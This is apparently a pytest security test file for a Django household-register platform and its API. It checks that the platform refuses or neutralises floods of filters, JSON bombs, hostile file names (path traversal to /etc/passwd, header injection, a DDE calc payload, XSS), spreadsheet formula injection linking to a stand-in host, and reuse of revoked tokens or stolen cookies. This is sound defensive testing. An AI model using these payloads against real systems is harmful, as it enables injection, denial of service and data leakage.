"""Requests built to hurt: thousands of filters, JSON bombs, names and texts that are programs, worn-out tokens."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from tuopin.platform.access import actor_for, grants_of
from tuopin.platform.api import limits, tokens
from tuopin.platform.lists.exporting import FORMULA
from tuopin.platform.models import Upload, User
from tuopin.register.models import (
    Correction,
    DataIssue,
    HouseholdCard,
    HouseholdProfile,
    PersonCard,
    PersonIdentity,
    Residence,
)

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from console_city import City
    from rooms.console.conftest import Login

pytestmark = pytest.mark.django_db

DAY = "2018-12-01"
MANY = 10_000
HOSTILE = '=HYPERLINK("http://x.invalid/"&A1,"<script>alert(1)</script>")'


@pytest.fixture(autouse=True)
def _unlimited() -> Iterator[None]:
    limits.RATE.forget()
    yield
    limits.RATE.forget()


class Caller:
    """A program with all that the account's tokens may carry."""

    def __init__(self, name: str) -> None:
        who = actor_for(User.objects.get(username=name))
        given = [each.name for each in tokens.offered(who)]
        grants = [each.pk for each in grants_of(who)]
        self.token, secret = tokens.make_token(who, "test", grants=grants, permissions=given, days=1)
        self.client = Client(
            headers={"host": "localhost", "Authorization": f"Bearer {secret}"}, raise_request_exception=False
        )

    def get(self, address: str) -> Any:
        return self.client.get(f"/api/{address}")

    def post(self, address: str, body: bytes | str) -> Any:
        return self.client.post(f"/api/{address}", body, "application/json")


def said(answer: Any, *statuses: int) -> dict[str, Any]:
    """A refusal in words."""
    assert answer.status_code in statuses, answer.content[:300]
    assert answer.headers["Content-Type"] == "application/problem+json"
    document: dict[str, Any] = answer.json()
    assert document["zh"]
    assert document["en"]
    return document


# -- ten thousand filters -----------------------------------------------------------------------------------------

QUERIES = {
    "one filter again and again": "&".join(f"registration=poor{at}" for at in range(MANY)),
    "as many names": "&".join(f"f{at}=1" for at in range(MANY)),
    "within the number of fields": "&".join(f"registration=a{at}" for at in range(1_900)),
    "as many columns": "&".join(["column=code"] * 1_900),
    "one long value": "code=" + "9" * 200_000,
    "one long number": "income_from=" + "9" * 5_000,
    "a thousand sorts": "&".join(["sort=code"] * 1_900),
}


@pytest.mark.parametrize("query", QUERIES.values(), ids=QUERIES)
def test_thousands_of_filters_are_refused_before_anything_is_asked(city: City, login: Login, query: str) -> None:
    """Refused with words, after no more statements than any page needs to know its reader and place."""
    client, caller = login("county"), Caller("county")
    client.raise_request_exception = False
    area = city.township.code
    for path in (f"/areas/{area}/households/", f"/areas/{area}/persons/", "/register/issues/list/"):
        with CaptureQueriesContext(
            connection,
        ) as asked:
            answer = client.get(f"{path}?area={area}&{query}")
        assert answer.status_code in {400, 404}, (path, answer.status_code)
        assert len(asked) <= 20
    for address in ("households", "issues", "lists/register.persons/rows", "areas", "jobs", "verdicts"):
        with CaptureQueriesContext(connection) as asked:
            answer = caller.get(f"{address}?{query}&standard=household_exit")
        if address not in {"areas", "jobs"} or answer.status_code != 200:  # these know no filters and read none
            said(answer, 400, 404, 422)
        assert len(asked) <= 20


def test_an_export_of_thousands_of_filters_is_refused(city: City) -> None:
    caller = Caller("county")
    for filters in (
        {f"f{at}": ["1"] for at in range(5_000)}, {"registration": ["poor"] * MANY}, {"code": ["9" * 100_000]},
        {f"f{at}": ["1"] * 100 for at in range(80)},
    ):  # fmt: skip
        body = json.dumps({"area": city.township.code, "filters": filters})
        said(caller.post("lists/register.households/exports", body), 400, 404, 422)


# -- bombs --------------------------------------------------------------------------------------------------------

BOMBS = {
    "nested": b"[" * 900_000,
    "nested objects": b'{"a":' * 150_000 + b"1" + b"}" * 150_000,
    "nested in a field": b'{"as_of":"2018-12-01","changes":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "a million keys": b"{" + b",".join(b'"%d":0' % at for at in range(100_000)) + b"}",
    "ten million keys": b"{" + b",".join(b'"%d":0' % at for at in range(1_000_000)) + b"}",
    "one key again and again": b"{" + b",".join([b'"as_of":1'] * 90_000) + b"}",
    "a number of many digits": b'{"as_of":' + b"1" * 900_000 + b"}",
    "a number beyond all": b'{"as_of":1e999999}',
    "a fraction of many digits": b'{"as_of":0.' + b"1" * 900_000 + b"}",
    "a text that never ends": b'{"as_of":"' + b'\\"' * 450_000,
    "backslashes": b'{"as_of":"' + b"\\" * 900_001,
    "quotes": b'"' * 900_001,
    "half a letter": b'{"reason":"\\ud800","as_of":"2018-12-01","changes":[]}',
    "no letters": b'{"reason":"\xff\xfe"}',
    "a text as long as may be": b'{"reason":"' + b"x" * 900_000 + b'"}',
}
WRITES = ("corrections", "evaluations", "workbooks", "import-sets", "lists/register.households/exports")


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_json_built_to_exhaust_its_reader_is_refused(city: City, bomb: bytes) -> None:
    caller = Caller("county")
    for address in WRITES:
        answer = caller.post(address, bomb)
        if answer.status_code in {201, 202}:  # sound JSON of an operation that needs no field and reads none of these
            assert address in {"import-sets", "lists/register.households/exports"}
            assert json.loads(bomb)
            continue
        said(answer, 400, 413, 422)
    assert not Correction.objects.exists()


def test_looking_for_strings_never_begins_anew() -> None:
    """A string without an end is one string: looked for from each of its quotes, it cost the square of its length."""
    for unended in (b'"' + b'\\"' * 50, b'"abc', b'"abc\\'):
        assert limits._STRING.sub(b"", unended) == b"", unended
    assert limits._STRING.sub(b"", b'"' + b'\\"' * 450_000) == b""
    assert limits._STRING.sub(b"", b'{"a\\"[":[1],"b":"]"}') == b"{:[1],:}"
    assert limits._NUL.search(b'"' + b"\\" * 450_001 + b'u0000"')
    assert not limits._NUL.search(b'"' + b"\\" * 450_002 + b'u0000"')


# -- names of files -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["../../../etc/passwd", "..\\..\\a.xlsx", "a\r\nSet-Cookie: x=1.xlsx", "\u202excod.xlsx", "=cmd|' /C calc'!A0.xlsx",
     "<img src=x onerror=alert(1)>.xlsx", "CON.xlsx", "." * 300, "名" * 300 + ".xlsx", "a\u0000b.xlsx",
     "\U0001f600.xlsx"],
)  # fmt: skip
def test_hostile_names_of_files_are_only_shown(city: City, name: str) -> None:
    caller = Caller("county")
    number = caller.post("import-sets", "{}").json()["id"]
    book = io.BytesIO()
    openpyxl.Workbook().save(book)
    file = SimpleUploadedFile("x.xlsx", book.getvalue())
    file._name = name
    answer = caller.client.post(f"/api/import-sets/{number}/files", {"file": file})
    if answer.status_code != 201:
        said(answer, 400, 422)
        assert not Upload.objects.exists()
        return
    kept = answer.json()["name"]
    assert not set("/\\\r\n\0\u202e") & set(kept)
    assert 0 < len(kept) <= 120
    assert Upload.objects.get().key.isalnum()


# -- formulas and scripts in every field ----------------------------------------------------------------------------


@pytest.fixture
def poisoned(city: City) -> str:
    """A household of which every text, also those that lists and search read, is a formula with a script in it."""
    code = city.ours[0]
    home = Residence.objects.get(household__code=code, valid_to=None)
    key = home.household_id
    Residence.objects.filter(pk=home.pk).update(group_name=HOSTILE[:100])
    _poison(HouseholdProfile, household_id=key)
    _poison(PersonIdentity, person__memberships__household_id=key)
    _poison(HouseholdCard, pk=key)
    _poison(PersonCard, household_id=key)
    DataIssue.objects.create(
        code="bad_code", kind="household_person", subject=code, column=HOSTILE[:100], value=HOSTILE,
        area_id=home.area_id, recorded_at="2019-01-01T00:00:00Z", person=HOSTILE[:64],
    )  # fmt: skip
    return code


def _poison(model: Any, **which: Any) -> None:
    names = {
        "head_name": 50, "phone": 30, "bank_name": 100, "bank_account": 40, "recognised_by": 50, "name": 50,
        "disability_number": 30,
    }  # fmt: skip
    own = {each.name: each.max_length or 30 for each in model._meta.concrete_fields if each.name in names}
    rows = list(model.objects.filter(**which).values_list("pk", flat=True))
    assert rows
    model.objects.filter(pk__in=rows).update(**{name: HOSTILE[: min(length, 60)] for name, length in own.items()})


def _cells(content: bytes | Path) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    book.close()
    return cells


def _no_formula(content: bytes | Path) -> None:
    cells = _cells(content)
    assert any(str(cell.value).startswith("=HYPERLINK") for cell in cells), "the poison is there, as text"
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(content) if isinstance(content, bytes) else content) as parts:
        for name in parts.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in parts.read(name), name
            assert "externalLink" not in name
            assert "vbaProject" not in name


@pytest.mark.parametrize("kind", ["households", "persons"])
def test_no_export_of_a_list_holds_a_formula(city: City, login: Login, poisoned: str, kind: str) -> None:
    client = login("county")
    address = f"/areas/{city.township.code}/{kind}/"
    _no_formula(client.post(address, {"export": "xlsx"}).content)
    text = b"".join(client.post(address, {"export": "csv"}).streaming_content).decode("utf-8-sig")  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(text)))
    assert any("=HYPERLINK" in cell for row in rows for cell in row)
    bad = [cell for row in rows for cell in row if cell.startswith(FORMULA) and not _is_number(cell)]
    assert bad == []


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_export_of_issues_holds_no_formula_and_no_cell_of_a_closed_class(
    city: City, login: Login, poisoned: str
) -> None:
    address = f"/register/issues/list/?area={city.township.code}&subject={poisoned}"
    cells = _cells(login("county").post(address, {"export": "xlsx"}).content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert not any("=HYPERLINK" in str(cell.value) for cell in cells), "the column is of no known class"


def test_pages_show_the_script_as_text(city: City, login: Login, poisoned: str) -> None:
    area = city.township.code
    for path in (
        f"/households/{poisoned}/", f"/areas/{area}/households/", f"/areas/{area}/persons/",
        f"/register/issues/list/?area={area}", f"/register/corrections/household/{poisoned}/",
    ):  # fmt: skip
        answer = login("county").get(path)
        assert answer.status_code == 200, path
        assert b"<script>alert" not in answer.content, path


# -- worn-out tokens and sessions -----------------------------------------------------------------------------------


def test_a_stolen_token_is_dead_everywhere_the_moment_it_is_revoked(city: City) -> None:
    owner, thief = Caller("clerk"), Caller("clerk")
    thief.client = owner.client
    assert thief.get("me").status_code == 200
    tokens.revoke_tokens(actor_for(User.objects.get(username="clerk")), [owner.token.pk])
    for address in ("me", "households", "jobs", f"households/{city.ours[0]}"):
        assert said(thief.get(address), 401)["code"] == "no_token"
    assert said(thief.post("corrections", "{}"), 401)["code"] == "no_token"


def test_signing_out_on_one_machine_leaves_no_session_that_a_copy_of_its_cookie_opens(city: City, login: Login) -> None:
    here, there = login("clerk"), login("clerk")
    copy = Client(headers={"host": "localhost"})
    copy.cookies = here.cookies.copy()  # type: ignore[assignment]  # as somebody would who stole it
    assert copy.get("/").status_code == 200
    here.post("/sign-out/")
    assert copy.get("/").status_code == 302
    assert there.get("/").status_code == 200, "the other machine is still signed in"
